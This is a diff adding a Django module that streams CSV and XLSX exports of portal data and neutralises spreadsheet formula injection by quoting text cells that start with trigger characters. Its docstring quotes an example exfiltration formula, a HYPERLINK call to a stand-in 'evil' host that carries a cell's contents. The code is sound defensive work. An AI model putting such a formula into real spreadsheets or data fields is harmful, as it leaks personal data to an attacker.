@@ -1,0 +1,230 @@
+"""Every CSV and XLSX file the portal writes goes through here.
+
+A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, one that begins
+with a tab, a carriage return, a line feed or NUL) as a formula: a name such as ``=HYPERLINK("http://evil/?"&B2,"x")``
+typed by an applicant or an anonymous complainant would run on the verifier's or the complaint officer's computer
+when they open the export. Following OWASP's CSV-injection guidance and ASVS 5 (1.2.10), such a *text* cell is
+written with a leading single quote, in CSV and XLSX alike, so that the text stays readable and nothing is evaluated.
+Real numbers (``int``, ``float``, ``Decimal``) stay numbers: ``-3`` is data, the text ``"-1+2"`` is not.
+
+Dates and times are written in the portal's time zone (``TIME_ZONE``, Asia/Jakarta, WIB): as real date cells in
+XLSX, as ``YYYY-MM-DD`` and ``YYYY-MM-DD HH:MM`` in CSV (readable, and read as dates by every spreadsheet
+whatever its locale).
+
+Nothing here holds all rows in memory: CSV is a ``StreamingHttpResponse`` fed by the caller's iterator, and XLSX is
+written by openpyxl's write-only mode (rows go to a temporary file) and sent from a temporary file.
+"""
+
+import csv
+import datetime
+import decimal
+import itertools
+import re
+import tempfile
+from collections.abc import Iterable, Iterator, Sequence
+from dataclasses import dataclass
+from typing import Any
+
+from django.http import FileResponse, Http404, StreamingHttpResponse
+from django.utils import timezone, translation
+from django.utils.cache import patch_cache_control
+from django.utils.http import content_disposition_header
+
+CSV_TYPE = "text/csv; charset=utf-8"
+XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# First characters that make a spreadsheet read a text cell as a formula (OWASP; ASVS 1.2.10 adds NUL; a line
+# feed is treated like the carriage return it often travels with).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
+QUOTE = "'"
+
+CSV_DATE = "%Y-%m-%d"
+CSV_DATETIME = "%Y-%m-%d %H:%M"
+XLSX_DATE = "dd/mm/yyyy"
+XLSX_DATETIME = "dd/mm/yyyy hh:mm"
+
+CSV_CHUNK = 500  # rows per piece of a streamed CSV
+
+# Column widths (in characters) for XLSX: measured on the first rows, kept between these bounds.
+WIDTH_SAMPLE_ROWS = 200
+MIN_WIDTH, MAX_WIDTH = 6, 60
+# Characters that XML 1.0, and so XLSX, cannot carry (control characters other than tab, LF and CR).
+_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
+
+
+@dataclass
+class Sheet:
+    """One worksheet: a title (31 characters at most are kept), a header row and the rows, any iterable."""
+
+    title: str
+    header: Sequence[Any]
+    rows: Iterable[Sequence[Any]]
+
+
+def neutralise(text: str) -> str:
+    """``text`` as a spreadsheet shows it and never evaluates it: a leading quote when it could start a formula."""
+    return QUOTE + text if text.startswith(FORMULA_TRIGGERS) else text
+
+
+def local(value: datetime.datetime) -> datetime.datetime:
+    """A time in the portal's zone, without tzinfo (spreadsheets have no time zones); naive values are kept."""
+    if timezone.is_aware(value):
+        value = timezone.localtime(value, timezone.get_default_timezone())
+    return value.replace(tzinfo=None)
+
+
+def _is_number(value: Any) -> bool:
+    return isinstance(value, int | float | decimal.Decimal) and not isinstance(value, bool)
+
+
+def csv_value(value: Any) -> Any:
+    """What one CSV cell holds: numbers as they are, dates in local time, every text neutralised."""
+    if type(value) is str:  # the common case first: this runs for every cell of a million-row export
+        return neutralise(value)
+    if value is None:
+        return ""
+    if _is_number(value):
+        return value
+    if isinstance(value, datetime.datetime):
+        return local(value).strftime(CSV_DATETIME)
+    if isinstance(value, datetime.date):
+        return value.strftime(CSV_DATE)
+    return neutralise(str(value))
+
+
+def xlsx_value(value: Any) -> Any:
+    """What one XLSX cell holds: numbers and local dates as they are, every text neutralised and XML-safe."""
+    if value is None or _is_number(value):
+        return value
+    if isinstance(value, datetime.date):
+        return local(value) if isinstance(value, datetime.datetime) else value
+    return neutralise(_XML_ILLEGAL.sub("\ufffd", str(value)))
+
+
+# --- CSV -----------------------------------------------------------------------------------------
+
+
+class _Echo:
+    """The file csv.writer writes to: it hands each formatted line back instead of keeping it."""
+
+    def write(self, line: str) -> str:
+        return line
+
+
+def csv_lines(rows: Iterable[Sequence[Any]], header: Sequence[Any] | None = None) -> Iterator[str]:
+    """The file in chunks of a few hundred lines: a BOM (Excel reads UTF-8 only with one), the header, the rows
+    as they come."""
+    writer = csv.writer(_Echo())
+    yield "\ufeff"
+    if header is not None:
+        yield writer.writerow([csv_value(v) for v in header])
+    rows = iter(rows)
+    while chunk := "".join(writer.writerow([csv_value(v) for v in row]) for row in itertools.islice(rows, CSV_CHUNK)):
+        yield chunk
+
+
+def csv_response(filename: str, rows: Iterable[Sequence[Any]], header: Sequence[Any] | None = None):
+    """A streamed CSV download: ``rows`` is consumed while the response is sent, never held whole."""
+    lines = _in_language(translation.get_language(), csv_lines(rows, header))
+    return _download(StreamingHttpResponse(lines, content_type=CSV_TYPE), filename)
+
+
+# --- XLSX ----------------------------------------------------------------------------------------
+
+
+def xlsx_response(filename: str, sheets: Sequence[Sheet]):
+    """An XLSX download of one or more sheets: bold header, column widths, dates as date cells."""
+    from openpyxl import Workbook
+
+    workbook = Workbook(write_only=True)
+    for sheet in sheets:
+        _write_sheet(workbook, sheet)
+    # Rows went to openpyxl's temporary files; the finished workbook goes to another one and is sent from disk.
+    out = tempfile.TemporaryFile()  # noqa: SIM115 - closed by FileResponse once sent
+    workbook.save(out)
+    out.seek(0)
+    return _download(FileResponse(out, as_attachment=True, filename=filename, content_type=XLSX_TYPE), filename)
+
+
+def _write_sheet(workbook, sheet: Sheet) -> None:
+    from openpyxl.styles import Font
+    from openpyxl.utils import get_column_letter
+
+    ws = workbook.create_sheet(_sheet_title(sheet.title))
+    rows = iter(sheet.rows)
+    sample = [[xlsx_value(v) for v in row] for row in itertools.islice(rows, WIDTH_SAMPLE_ROWS)]
+    header = [xlsx_value(v) for v in sheet.header]
+    # Widths must be known before the first row: write-only sheets write their column settings first.
+    for index, width in enumerate(_widths([header, *sample]), start=1):
+        ws.column_dimensions[get_column_letter(index)].width = width
+    ws.freeze_panes = "A2"
+    ws.append([_header_cell(ws, v, Font(bold=True)) for v in header])
+    for row in itertools.chain(sample, ([xlsx_value(v) for v in row] for row in rows)):
+        # Plain values are stored by type (a neutralised text never starts with "=", so openpyxl never makes it a
+        # formula); only dates need a cell object, for their format.
+        ws.append([_date_cell(ws, v) if isinstance(v, datetime.date) else v for v in row])
+
+
+def _header_cell(ws, value: Any, font):
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(ws, value=value)
+    cell.font = font
+    return cell
+
+
+def _date_cell(ws, value: datetime.date):
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(ws, value=value)
+    cell.number_format = XLSX_DATETIME if isinstance(value, datetime.datetime) else XLSX_DATE
+    return cell
+
+
+def _display_length(value: Any) -> int:
+    if isinstance(value, datetime.datetime):
+        return len(XLSX_DATETIME)
+    if isinstance(value, datetime.date):
+        return len(XLSX_DATE)
+    if value is None:
+        return 0
+    return max((len(line) for line in str(value).splitlines()), default=0)
+
+
+def _widths(rows: list[list[Any]]) -> list[float]:
+    columns = max((len(row) for row in rows), default=0)
+    longest = [0] * columns
+    for row in rows:
+        for index, value in enumerate(row):
+            longest[index] = max(longest[index], _display_length(value))
+    return [min(max(n + 2, MIN_WIDTH), MAX_WIDTH) for n in longest]
+
+
+def _sheet_title(title: str) -> str:
+    # Excel refuses these characters in sheet names and names longer than 31 characters.
+    return re.sub(r"[\\/*?:\[\]]", "-", str(title))[:31] or "Sheet"
+
+
+# --- both ----------------------------------------------------------------------------------------
+
+
+def table_response(fmt: str, stem: str, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]):
+    """One table as ``stem.csv`` or ``stem.xlsx`` (sheet ``title``); any other format is not found."""
+    if fmt == "csv":
+        return csv_response(f"{stem}.csv", rows, header)
+    if fmt == "xlsx":
+        return xlsx_response(f"{stem}.xlsx", [Sheet(title, header, rows)])
+    raise Http404
+
+
+def _download(response, filename: str):
+    response["Content-Disposition"] = content_disposition_header(True, filename)
+    # Exports carry personal data: no shared cache keeps them.
+    patch_cache_control(response, private=True, no_store=True)
+    return response
+
+
+def _in_language(language: str | None, lines: Iterator[str]) -> Iterator[str]:
+    """Rows are built while the response is sent, after the view returned: keep the request's language."""
+    with translation.override(language):
+        yield from lines
